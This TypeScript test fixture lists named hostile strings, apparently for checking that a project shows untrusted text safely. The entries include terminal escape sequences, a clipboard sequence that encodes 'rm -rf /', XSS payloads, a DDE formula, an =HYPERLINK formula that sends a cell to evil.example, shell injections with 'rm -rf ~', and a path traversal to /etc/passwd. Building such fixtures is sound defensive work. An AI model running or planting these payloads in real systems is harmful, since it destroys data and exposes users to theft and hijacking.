import { type ByteString, fromText } from '../rooms/bytes.ts';

/** Text of a capture that a reader might obey instead of showing it. */
export interface HostileValue {
  readonly name: string;
  /** As bytes, so that what is no UTF-8 has its place. */
  readonly value: ByteString;
}

const range = (from: number, to: number): number[] =>
  Array.from({ length: to - from + 1 }, (_, at) => from + at);

/** Code points as the bytes of their UTF-8 form. */
const points = (...codes: readonly number[]): ByteString => fromText(String.fromCodePoint(...codes));

const BYTES = {
  'bytes 00 to 08': String.fromCharCode(...range(0, 8)),
  'bytes 0e to 1f': String.fromCharCode(...range(0x0e, 0x1f)),
  NUL: 'a\0b',
  tab: 'a\tb',
  CR: 'a\rb',
  LF: 'a\nb',
  'CR LF and a header': 'a\r\nX-Injected: 1\r\n\r\nb',
  'vertical tab and form feed': 'a\x0b\x0cb',
  DEL: 'a\x7fb',
  'C1 as bytes': String.fromCharCode(...range(0x80, 0x9f)),
  'C1 in UTF-8': points(...range(0x80, 0x9f)),
  'CSI as a byte': '\x9b31mred',
  'CSI in UTF-8': `${points(0x9b)}31mred`,
  colour: '\x1b[31mred\x1b[0m',
  'clear the screen': '\x1b[2J\x1b[H',
  'window title': '\x1b]0;pwned\x07',
  'window title, ST': '\x1b]2;pwned\x1b\\',
  hyperlink: '\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\',
  clipboard: '\x1b]52;c;cm0gLXJmIC8=\x07',
  'device control': '\x1bP$q"p\x1b\\',
  'overlong NUL': '\xc0\x80',
  'overlong slash': '\xc0\xaf',
  'lone surrogate, high': '\xed\xa0\x80',
  'lone surrogate, low': '\xed\xb0\x80',
  'cut UTF-8': '\xe4\xb8',
  'beyond Unicode': '\xf4\x90\x80\x80',
  'bytes fe and ff': '\xfe\xff',
} as const;

const UNICODE = {
  'bidi overrides': points(0x202a, 0x61, 0x202b, 0x62, 0x202d, 0x63, 0x202e, 0x64, 0x202c),
  'bidi isolates': points(0x2066, 0x61, 0x2067, 0x62, 0x2068, 0x63, 0x2069),
  'bidi marks': points(0x200e, 0x61, 0x200f, 0x62, 0x061c),
  'zero width': points(0x61, 0x200b, 0x62, 0x200c, 0x63, 0x200d, 0x64, 0x2060, 0x65),
  BOM: points(0xfeff, 0x61, 0xfeff),
  'line separators': points(0x61, 0x2028, 0x62, 0x2029, 0x63, 0x85, 0x64),
  'odd blanks': points(0x61, 0xa0, 0x62, 0x3000, 0x63, 0x2003, 0x64),
  'soft hyphen': points(0x61, 0xad, 0x62),
  tags: points(0x61, 0xe0001, 0xe0041, 0x62),
  noncharacters: points(0x61, 0xfffe, 0x62, 0xffff, 0x63),
  'full width': fromText('＝1+1'),
  combining: `a${points(0x0301, 0x0302, 0x0303)}b`,
  Chinese: fromText('中文'),
  emoji: points(0x1f469, 0x200d, 0x1f4bb),
} as const;

const TEXT = {
  script: '<script>window.pwned=1</script>',
  'image that fails': '"><img src=x onerror=window.pwned=1>',
  'end of a script': '</script><script>window.pwned=1</script>',
  'end of a style': '</style><svg onload=window.pwned=1>',
  'end of an attribute': `' onmouseover='window.pwned=1' x="`,
  'HTML comment': '<!-- a --> <!--',
  'CDATA end': ']]>',
  doctype: '<!DOCTYPE x [<!ENTITY y "z">]>&y;',
  entities: '&lt;b&gt; &amp;lt; &#60; &#x3c;',
  'address that runs': 'javascript:alert(1)',
  'data address': 'data:text/html,<script>window.pwned=1</script>',
  template: '{{7*7}} $' + '{7*7} <%= 7*7 %> #{7*7} {0} {path} {path:long}',
  'replacement patterns': "$& $1 $$ $` $'",
  printf: '%s%s%n%d %1$s',
  'Markdown link': '[a](https://evil.example/ "b")',
  'Markdown image': '![a](https://evil.example/x.png)',
  'Markdown reference': '[a][b]\n\n[b]: https://evil.example/',
  'Markdown table': 'a | b || c \\| d',
  'Markdown code': 'a ` b `` c ``` d ~~~ e',
  'Markdown emphasis': '**a** _b_ ~~c~~ # d > e - f 1. g',
  'Markdown autolink': '<https://evil.example/> https://evil.example/ www.evil.example evil@evil.example',
  mention: '@octocat @org/team GH-1 #1 octocat/repo#1 !1 &1 %1 $1',
  'HTML in Markdown': '<details open><summary>x</summary><a href="https://evil.example/">y</a>',
  mathematics: '$\\href{https://evil.example/}{a}$ $`a`$',
  'formula =': '=1+1',
  'formula +': '+1+1',
  'formula -': '-1+1',
  'formula @': '@SUM(1)',
  'formula that links': '=HYPERLINK("https://evil.example/?"&A1,"x")',
  'formula of DDE': "=cmd|' /C calc'!A0",
  'formula after a blank': ' =1+1',
  CSV: 'a","b\'";c\td',
  'workflow command': '::error file=a,line=1::b',
  'workflow output': '::set-output name=a::b',
  'workflow command, old': '##[error]a',
  'workflow command, escaped': '%0A::error::a%0D%0A::add-mask::b',
  'stop commands': '::stop-commands::x',
  'GitLab section': '\x1b[0Ksection_start:1:a\r\x1b[0Kb',
  prototype: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  shell: `$(touch /tmp/pwned) \`id\` ; rm -rf ~ | sh & ' " \\ ! * ? # >f <g`,
  'shell quotes': `'; echo pwned; '`,
  option: '--help',
  path: '../../../etc/passwd',
  JSON: '","a":1},{"b":"\\u0000\\',
  backslashes: '\\x00 \\u0000 \\n \\',
  'very long': 'A'.repeat(3000),
  'very long with controls': '\x1b[31m<b>'.repeat(200),
} as const;

const list = (values: Readonly<Record<string, string>>): HostileValue[] =>
  Object.entries(values).map(([name, value]) => ({ name, value }));

/** Every kind of text that this project knows to be dangerous somewhere. */
export const HOSTILE_VALUES: readonly HostileValue[] = [...list(BYTES), ...list(UNICODE), ...list(TEXT)];
